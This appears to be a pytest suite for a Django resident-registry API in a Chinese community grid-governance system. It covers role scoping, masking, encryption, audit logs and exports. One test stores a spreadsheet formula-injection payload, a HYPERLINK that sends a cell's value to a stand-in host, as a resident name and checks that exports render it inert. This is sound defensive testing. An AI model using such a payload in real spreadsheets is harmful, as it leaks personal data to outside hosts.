"""The basedata API: scope per role (401/403/404/2xx), masking everywhere, unmasking and exports logged,
encryption at rest, the phone endpoints, key-population visibility, 六必访 due list, statistics."""

import csv
import datetime as dt
import io
import re
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.utils import timezone

from gridgov.accounts.roles import RIGHTS, Role
from gridgov.accounts.scope import scope_prefix
from gridgov.basedata import rights
from gridgov.basedata.models import AccessLog, Dwelling, Household, KeyTag, Resident, Visit, VisitTrigger
from gridgov.basedata.services import ID_FIELD, PHONE_FIELD
from gridgov.crypto import cipher
from tests.matrix import call, expected

pytestmark = pytest.mark.django_db

DEMO = ["admin", "leader", "intake", "shift", "dispatcher", "supervisor", "inspector", "gridleader", "gridworker",
        "handler", "resident"]
TARGETS = {
    "own_grid": "110101001001W001.",
    "next_grid": "110101001001W002.",
    "same_street": "110101001002",
    "other_street": "110101002001",
}
MASKED_ID = re.compile(r"^\d{6}\*{8}[\dX]{4}$")
MASKED_PHONE = re.compile(r"^(\d{3}\*{4}\d{4})?$")


def resident_in(prefix: str) -> Resident:
    r = Resident.objects.filter(scope_key__startswith=prefix, status="active", household__isnull=False).order_by("id").first()
    assert r is not None, f"the test world has nobody in {prefix}"
    return r


def plain_values(qs) -> set[str]:
    c = cipher()
    out = set()
    for r in qs:
        out.add(c.decrypt(r.id_cipher, ID_FIELD))
        if r.phone_cipher:
            out.add(c.decrypt(r.phone_cipher, PHONE_FIELD))
    return out


@pytest.mark.parametrize("username", [None, *DEMO])
def test_object_endpoints_matrix(username, client_for, users):
    client = client_for(username)
    user = users.get(username)
    for prefix in TARGETS.values():
        r = resident_in(prefix)
        for method, path, body, right in [
            ("get", f"/api/v1/basedata/residents/{r.pk}", None, rights.VIEW),
            ("patch", f"/api/v1/basedata/residents/{r.pk}", {}, rights.EDIT),
            ("post", f"/api/v1/basedata/residents/{r.pk}/unmask", {"reason": "核对身份"}, rights.UNMASK),
            ("get", f"/api/v1/basedata/households/{r.household_id}", None, rights.VIEW),
            ("get", f"/api/v1/basedata/dwellings?building_id={r.dwelling.building_id}", None, rights.VIEW),
        ]:
            want = expected(user, right, r.scope_key)
            if method == "get" and "dwellings?" in path and want == 404:
                want = 200  # a list: out of scope means empty, not 404
            resp = call(client, method, path, body)
            assert resp.status_code == want, (username, method, path, resp.status_code, resp.content[:200])
            if want != 200:
                assert set(resp.json()) >= {"code", "message"}
            elif "dwellings?" in path:
                assert (resp.json()["count"] > 0) == (expected(user, right, r.scope_key) == 200)


@pytest.mark.parametrize("username", [None, *DEMO])
def test_lists_are_scoped_and_masked_for_every_role(username, client_for, users):
    client = client_for(username)
    user = users.get(username)
    resp = client.get("/api/v1/basedata/residents?limit=500")
    if user is None:
        assert resp.status_code == 401
        return
    if rights.VIEW not in RIGHTS[Role(user.role)]:
        assert resp.status_code == 403
        return
    assert resp.status_code == 200
    body = resp.json()
    prefix = scope_prefix(user)
    assert body["count"] == Resident.objects.filter(scope_key__startswith=prefix, status="active").count() > 0
    assert all(i["scope_key"].startswith(prefix) for i in body["items"])
    assert all(MASKED_ID.match(i["id_number"]) and MASKED_PHONE.match(i["phone"]) for i in body["items"])
    plain = plain_values(Resident.objects.filter(pk__in=[i["id"] for i in body["items"]]))
    text = resp.content.decode()
    assert plain and not any(p in text for p in plain)
    # every other read that shows people is masked too
    r = Resident.objects.get(pk=body["items"][0]["id"])
    for path in [f"/api/v1/basedata/residents/{r.pk}", f"/api/v1/basedata/households/{r.household_id}",
                 "/api/v1/basedata/key-population?limit=500", "/api/v1/basedata/organisations?limit=500",
                 f"/api/v1/basedata/residents?id_number={r.id_masked}"]:
        resp = client.get(path)
        assert resp.status_code == 200, path
        assert not any(p in resp.content.decode() for p in plain_values(Resident.objects.filter(scope_key__startswith=prefix)[:300]))


def test_grid_worker_sees_own_grid_only(client_for):
    client = client_for("gridworker")
    items = client.get("/api/v1/basedata/residents?limit=500").json()["items"]
    assert items and all(i["scope_key"].startswith("110101001001W001.") for i in items)
    other = resident_in(TARGETS["next_grid"])
    assert client.get(f"/api/v1/basedata/residents/{other.pk}").status_code == 404
    assert client.get(f"/api/v1/basedata/residents?node={TARGETS['next_grid']}").json()["count"] == 0
    # exact lookup by ID number works only within scope (blind index, no decryption)
    plain = cipher().decrypt(other.id_cipher, ID_FIELD)
    assert client.get(f"/api/v1/basedata/residents?id_number={plain}").json()["count"] == 0
    assert client_for("gridleader").get(f"/api/v1/basedata/residents?id_number={plain}").json()["items"][0]["id"] == other.pk


def test_unmask_needs_right_and_reason_and_is_logged(client_for, users):
    r = resident_in(TARGETS["own_grid"])
    url = f"/api/v1/basedata/residents/{r.pk}/unmask"
    assert call(client_for("gridworker"), "post", url, {"reason": "核对"}).status_code == 403
    leader = client_for("gridleader")
    resp = call(leader, "post", url, {"reason": " "})
    assert resp.status_code == 400 and resp.json()["code"] == "reason_required"
    assert not AccessLog.objects.filter(action="unmask", object_id=str(r.pk)).exists()
    resp = call(leader, "post", url, {"reason": "办理低保核对身份"})
    assert resp.status_code == 200
    assert resp.json()["id_number"] == cipher().decrypt(r.id_cipher, ID_FIELD)
    log = AccessLog.objects.get(action="unmask", object_id=str(r.pk))
    assert (log.username, log.reason, log.fields) == ("gridleader", "办理低保核对身份", "id_number,phone")
    assert log.user == users["gridleader"] and log.at is not None
    # the auditor lists it; others may not read the log
    resp = client_for("admin").get("/api/v1/basedata/access-log?action=unmask")
    assert resp.status_code == 200 and resp.json()["items"][0]["reason"] == "办理低保核对身份"
    assert client_for("gridleader").get("/api/v1/basedata/access-log").status_code == 403
    # append-only
    with pytest.raises(PermissionError):
        log.save()
    with pytest.raises(PermissionError):
        AccessLog.objects.filter(pk=log.pk).update(reason="x")
    with pytest.raises(PermissionError):
        AccessLog.objects.all().delete()


def test_encrypted_columns_hold_no_plaintext():
    r = resident_in(TARGETS["own_grid"])
    plain_id = cipher().decrypt(r.id_cipher, ID_FIELD)
    plain_phone = cipher().decrypt(r.phone_cipher, PHONE_FIELD) if r.phone_cipher else None
    with connection.cursor() as cur:
        cur.execute("SELECT * FROM basedata_resident WHERE id = %s", [r.pk])
        row = cur.fetchone()
    for value in row:
        raw = bytes(value) if isinstance(value, (bytes, memoryview)) else str(value).encode()
        assert plain_id.encode() not in raw and plain_id[6:14].encode() not in raw or value == r.birth_date
        if plain_phone:
            assert plain_phone.encode() not in raw
    with connection.cursor() as cur:
        cur.execute("SELECT id_cipher FROM basedata_resident")
        assert not any(plain_id.encode() in bytes(v[0]) for v in cur.fetchall())


@pytest.mark.parametrize("username", ["admin", "gridleader", "gridworker", "leader"])
def test_exports_are_masked_logged_and_unmasked_only_with_right_and_reason(username, client_for, users):
    from openpyxl import load_workbook

    client = client_for(username)
    user = users[username]
    resp = client.get("/api/v1/basedata/exports/residents?format=csv")
    if rights.EXPORT not in RIGHTS[Role(user.role)]:
        assert resp.status_code == 403
        return
    assert resp.status_code == 200
    text = resp.content.decode("utf-8-sig")
    rows = text.splitlines()[1:]
    prefix = scope_prefix(user)
    assert len(rows) == Resident.objects.filter(scope_key__startswith=prefix).count()
    assert not any(p in text for p in plain_values(Resident.objects.filter(scope_key__startswith=prefix)))
    assert all(MASKED_ID.match(r.split(",")[1]) for r in rows)
    log = AccessLog.objects.filter(action="export", username=username).latest("id")
    assert log.count == len(rows) and log.fields == ""
    resp = client.get("/api/v1/basedata/exports/residents?format=xlsx&node=110101001001W001")
    ws = load_workbook(io.BytesIO(resp.content)).worksheets[0]
    ids_ = [row[1] for row in ws.iter_rows(min_row=2, values_only=True)]
    assert ids_ and all(MASKED_ID.match(i) for i in ids_)
    assert client.get("/api/v1/basedata/exports/residents?unmask=true").status_code == 400  # no reason
    resp = client.get("/api/v1/basedata/exports/residents?unmask=true&reason=年度核查&node=110101001001W001")
    assert resp.status_code == 200
    assert AccessLog.objects.filter(action="export", username=username, reason="年度核查",
                                    fields="id_number,phone").exists()
    sample = Resident.objects.filter(scope_key__startswith="110101001001W001").first()
    assert cipher().decrypt(sample.id_cipher, ID_FIELD) in resp.content.decode("utf-8-sig")


def test_phone_endpoints_add_resident_dwelling_visit(client_for):
    client = client_for("gridworker")
    own = Dwelling.objects.filter(scope_key__startswith="110101001001W001.").first()
    other = Dwelling.objects.filter(scope_key__startswith="110101001001W002.").first()
    idn = "110101199001011239"
    from gridgov.basedata.logic.ids import id_check_char

    idn = idn[:17] + id_check_char(idn[:17])
    payload = {"name": "测试人", "id_number": idn, "phone": "13800001234", "reg_type": "流动", "dwelling_id": own.pk,
               "household_number": "NEW-HH-1", "relation": "户主"}
    bad = call(client, "post", "/api/v1/basedata/residents", {**payload, "id_number": idn[:17] + "0" if idn[17] != "0" else idn[:17] + "1"})
    assert bad.status_code == 400 and bad.json()["message"] == "身份证号校验位错误" and idn[:17] not in bad.content.decode()
    assert call(client, "post", "/api/v1/basedata/residents", {**payload, "dwelling_id": other.pk}).status_code == 404
    resp = call(client, "post", "/api/v1/basedata/residents", payload)
    assert resp.status_code == 200, resp.content
    body = resp.json()
    assert body["id_number"] == idn[:6] + "********" + idn[-4:] and body["phone"] == "138****1234"
    assert body["gender"] == "M" and body["birth_date"] == "1990-01-01" and body["reg_type"] == "floating"
    assert call(client, "post", "/api/v1/basedata/residents", payload).status_code == 409
    r = Resident.objects.get(pk=body["id"])
    assert r.scope_key == own.scope_key and r.household.number == "NEW-HH-1"
    resp = call(client, "patch", f"/api/v1/basedata/residents/{r.pk}", {"phone": "13900004321"})
    assert resp.json()["phone"] == "139****4321"
    resp = call(client, "post", f"/api/v1/basedata/residents/{r.pk}/move",
                {"kind": "move", "date": str(timezone.localdate()), "reason": "搬家", "dwelling_id": other.pk})
    assert resp.status_code == 404  # cannot move someone out of one's own grid
    resp = call(client, "post", f"/api/v1/basedata/residents/{r.pk}/move",
                {"kind": "cancel", "date": str(timezone.localdate()), "reason": "死亡注销"})
    assert resp.status_code == 200 and resp.json()["status"] == "cancelled"
    events = client.get(f"/api/v1/basedata/residents/{r.pk}").json()["events"]
    assert [e["kind"] for e in events] == ["add", "update", "cancel"]

    resp = call(client, "post", "/api/v1/basedata/dwellings",
                {"building_id": own.building_id, "unit_no": "9", "floor": 9, "room": "909", "use": "出租", "area_m2": 60})
    assert resp.status_code == 200 and resp.json()["scope_key"] == own.scope_key
    assert call(client, "post", "/api/v1/basedata/dwellings",
                {"building_id": other.building_id, "room": "909"}).status_code == 404

    hh = Household.objects.filter(scope_key__startswith="110101001001W001.").first()
    resp = call(client, "post", "/api/v1/basedata/visits",
                {"household_id": hh.pk, "issues": "反映楼道灯不亮", "follow_up": "已报修", "case_number": "C-1"})
    assert resp.status_code == 200 and resp.json()["case_number"] == "C-1"
    other_hh = Household.objects.filter(scope_key__startswith="110101001001W002.").first()
    assert call(client, "post", "/api/v1/basedata/visits", {"household_id": other_hh.pk}).status_code == 404
    assert call(client, "post", "/api/v1/basedata/diary", {"content": "今日走访 3 户"}).status_code == 200
    assert call(client_for("leader"), "post", "/api/v1/basedata/visits", {"household_id": hh.pk}).status_code == 403


def test_key_population_categories_visible_by_role(client_for):
    worker = {c["code"] for c in client_for("gridworker").get("/api/v1/basedata/key-categories").json()["items"]}
    leader = {c["code"] for c in client_for("gridleader").get("/api/v1/basedata/key-categories").json()["items"]}
    admin = {c["code"] for c in client_for("admin").get("/api/v1/basedata/key-categories").json()["items"]}
    assert "elderly_alone" in worker and "community_correction" not in worker
    assert "community_correction" in leader and admin >= leader
    r = resident_in(TARGETS["own_grid"])
    resp = call(client_for("gridleader"), "post", f"/api/v1/basedata/residents/{r.pk}/tags",
                {"category": "community_correction"})
    assert resp.status_code == 200
    assert call(client_for("gridworker"), "post", f"/api/v1/basedata/residents/{r.pk}/tags",
                {"category": "community_correction"}).status_code == 404
    seen = client_for("gridworker").get(f"/api/v1/basedata/residents/{r.pk}").json()["tags"]
    assert "community_correction" not in {t["category"] for t in seen}
    seen = client_for("gridleader").get(f"/api/v1/basedata/residents/{r.pk}").json()["tags"]
    assert "community_correction" in {t["category"] for t in seen}
    kp = client_for("gridworker").get("/api/v1/basedata/key-population?limit=500").json()["items"]
    assert kp and "community_correction" not in {i["category"] for i in kp}
    assert "community_correction" not in client_for("gridworker").get("/api/v1/basedata/stats").json()["key_population"]
    assert call(client_for("gridleader"), "put", "/api/v1/basedata/key-categories/x",
                {"code": "x", "name": "x"}).status_code == 403
    resp = call(client_for("admin"), "put", "/api/v1/basedata/key-categories/veterans",
                {"code": "veterans", "name": "退役军人", "visit_interval_days": 90, "roles": ["grid_worker"]})
    assert resp.status_code == 200
    assert "veterans" in {c["code"] for c in client_for("gridworker").get("/api/v1/basedata/key-categories").json()["items"]}


def test_six_visits_due_list_and_completion(client_for):
    client = client_for("gridworker")
    due = client.get("/api/v1/basedata/due").json()["items"]
    rule_items = [d for d in due if d["kind"] == "rule"]
    assert rule_items and all(d["scope_key"].startswith("110101001001W001.") for d in due)
    hh = rule_items[0]["household_id"]
    resp = call(client, "post", f"/api/v1/basedata/households/{hh}/triggers",
                {"rule": "illness", "occurred_on": str(timezone.localdate())})
    assert resp.status_code == 200
    assert VisitTrigger.objects.filter(household_id=hh, visit__isnull=True).count() >= 2
    assert call(client, "post", "/api/v1/basedata/visits", {"household_id": hh, "issues": "慰问"}).status_code == 200
    assert not VisitTrigger.objects.filter(household_id=hh, visit__isnull=True).exists()
    assert hh not in {d["household_id"] for d in client.get("/api/v1/basedata/due").json()["items"] if d["kind"] == "rule"}
    file = client.get(f"/api/v1/basedata/households/{hh}").json()
    assert file["members"] and file["visits"] and all(t["done"] for t in file["triggers"])


def test_visits_this_week_and_this_month_on_a_week_across_two_months(client_for, users, time_machine):
    """本周 runs from Monday, 本月 from the 1st: on Wednesday 2030-10-02 the week began on 30 September, so a
    visit on 30 September counts for the week and not for the month. The clock is frozen: the answer must not
    depend on the day the suite runs (the demo's own visits are years before, so they count for neither)."""
    time_machine.move_to(dt.datetime(2030, 10, 2, 15, 0, tzinfo=ZoneInfo("Asia/Shanghai")), tick=False)
    h = Household.objects.filter(scope_key__startswith="110101001001W001.").order_by("pk").first()
    worker = users["gridworker"]
    for when in ["2030-10-02 09:00", "2030-10-01 00:00", "2030-09-30 23:59", "2030-09-29 23:59", "2030-09-20 10:00"]:
        at = dt.datetime.fromisoformat(when).replace(tzinfo=ZoneInfo("Asia/Shanghai"))
        Visit.objects.create(worker=worker, household=h, visited_at=at, scope_key=h.scope_key)
    s = client_for("gridleader").get("/api/v1/basedata/stats").json()
    assert s["date"] == "2030-10-02"
    assert (s["visits_week"], s["visits_month"]) == (3, 2)
    w001 = next(c for c in s["children"] if c["node"] == "110101001001W001")
    assert (w001["visits_week"], w001["visits_month"]) == (3, 2)


def test_statistics_and_weekly_ranking(client_for):
    resp = client_for("gridleader").get("/api/v1/basedata/stats")
    assert resp.status_code == 200
    s = resp.json()
    assert s["node"] == "110101001001"
    assert s["population"]["total"] == Resident.objects.filter(scope_key__startswith="110101001001", status="active").count()
    assert s["households"] == Household.objects.filter(scope_key__startswith="110101001001").count()
    assert {c["node"] for c in s["children"]} >= {"110101001001W001", "110101001001W002"}
    assert sum(c["population"]["total"] for c in s["children"]) == s["population"]["total"]
    assert s["key_population"]["elderly_alone"] == KeyTag.objects.filter(
        scope_key__startswith="110101001001", category__code="elderly_alone", until__isnull=True,
        resident__status="active").count()
    street = client_for("supervisor").get("/api/v1/basedata/stats").json()
    assert {c["node"] for c in street["children"]} >= {"110101001001", "110101001002"}
    assert client_for("gridleader").get("/api/v1/basedata/stats?node=110101001002").status_code == 404
    assert client_for("handler").get("/api/v1/basedata/stats").status_code == 403
    ranking = client_for("gridleader").get("/api/v1/basedata/ranking").json()
    workers = ranking["workers"]
    assert workers and [w["rank"] for w in workers] == list(range(1, len(workers) + 1))
    assert [w["total"] for w in workers] == sorted((w["total"] for w in workers), reverse=True)
    assert "gridworker" in {w["username"] for w in workers}
    assert dt.date.fromisoformat(ranking["week_start"]).weekday() == 0


def test_import_over_the_api_rejects_then_skips_and_reports_progress(client_for):
    from gridgov.basedata.logic import synthetic

    codes = list(Dwelling.objects.filter(scope_key__startswith="110101001001W001.").values_list("code", flat=True)[:5])
    data = synthetic.resident_file(50, codes, bad={3, 30}, start=11_000_000)
    client = client_for("gridleader")
    resp = client.post("/api/v1/basedata/imports/residents", data=data, content_type="text/csv")
    assert resp.status_code == 422
    body = resp.json()
    assert body["code"] == "import_rejected" and body["errors"] == ["第 5 行：身份证号校验位错误", "第 32 行：身份证号校验位错误"]
    resp = client.post("/api/v1/basedata/imports/residents?skip_bad=true", data=data, content_type="text/csv")
    assert resp.status_code == 200 and resp.json()["created"] == 48 and resp.json()["status"] == "done"
    job = client.get(f"/api/v1/basedata/import-jobs/{resp.json()['id']}").json()
    assert (job["processed"], job["total"], job["skipped"]) == (50, 50, 2)
    assert client_for("gridworker").post("/api/v1/basedata/imports/residents", data=data,
                                         content_type="text/csv").status_code == 403
    tpl = client.get("/api/v1/basedata/templates/residents?format=csv")
    assert tpl.status_code == 200 and tpl.content.decode("utf-8-sig").startswith("姓名,身份证号")


HYPERLINK = '=HYPERLINK("http://x?"&B2,"点击")'


@pytest.mark.parametrize("unmask", [False, True])
def test_an_exported_formula_name_comes_out_inert(client_for, unmask):
    """Issue 13, defect 2: a resident named like a formula is exported as text, in CSV and .xlsx, masked or not."""
    from openpyxl import load_workbook

    client = client_for("gridleader")
    target = resident_in("110101001001W001.")
    assert client.patch(f"/api/v1/basedata/residents/{target.pk}", {"name": HYPERLINK},
                        content_type="application/json").status_code == 200
    query = "node=110101001001W001" + ("&unmask=true&reason=年度核查" if unmask else "")
    resp = client.get(f"/api/v1/basedata/exports/residents?format=csv&{query}")
    assert resp.status_code == 200
    rows = [r for r in csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))) if HYPERLINK in "".join(r)]
    assert [r[0] for r in rows] == ['\'=HYPERLINK("http://x?"&B2,"点击")']
    resp = client.get(f"/api/v1/basedata/exports/residents?format=xlsx&{query}")
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.content)).worksheets[0]
    cells = [row[0] for row in ws.iter_rows(min_row=2) if HYPERLINK in str(row[0].value)]
    assert [(c.data_type, c.value) for c in cells] == [("s", '\'=HYPERLINK("http://x?"&B2,"点击")')]
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_located_points_come_back_inert(client_for):
    """The locate CSV echoes the caller's columns: a formula in one comes back as text."""
    client = client_for("admin")
    body = "lon,lat,note\n116.4107,39.9281,=1+2\n"
    resp = client.post("/api/v1/locate/csv", body, content_type="text/csv")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    assert rows[1][:3] == ["116.4107", "39.9281", "'=1+2"]
